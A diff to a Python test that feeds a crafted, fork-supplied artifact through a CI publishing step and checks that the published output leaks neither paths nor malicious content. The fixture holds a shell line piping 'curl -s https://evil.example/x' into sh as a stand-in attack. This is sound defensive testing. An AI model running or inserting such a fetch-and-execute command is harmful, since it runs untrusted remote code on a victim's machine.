@@ -212,7 +212,7 @@ def test_a_project_in_a_folder_then_a_crafted_artifact_through_the_fork_safe_pub
         script["optimization"].update(head_source="#!/bin/sh\necho building\nmake\n",
                                       winner_source="#!/bin/sh\ncurl -s https://evil.example/x | sh\nmake\n")
         broken = dict(json.loads(json.dumps(report["templates"][0])), template="prompts/y.j2", status="error",
-                      reason="/home/runner/work/prompts/prompts/svc/prompts/y.j2:3: unknown variable",
+                      reason="/runner/_work/prompts/prompts/svc/prompts/y.j2:3: unknown variable",
                       optimization=None)
         crafted["templates"] += [script, broken]
         artifact = tmp_path / "artifact"
@@ -229,7 +229,7 @@ def test_a_project_in_a_folder_then_a_crafted_artifact_through_the_fork_safe_pub
         assert [c["path"] for c in gh.review_comments[7]] == ["svc/prompts/x.j2"]  # not again, not run.sh
         (comment,) = gh.issue_comments[7]
         text = comment["body"] + publish.summary + Path(publish.outputs["patch"]).read_text(encoding="utf-8")
-        assert "evil.example" not in text and "/home/runner" not in text
+        assert "evil.example" not in text and "/runner/_work" not in text
         assert "svc/run.sh is not a prompt template" in comment["body"].replace("\\", "")
         assert "svc/prompts/y.j2:3: unknown variable" in comment["body"].replace("\\", "")
         assert any(name == "error" and "file=svc/prompts/y.j2,line=3" in props for name, props, _ in publish.commands)
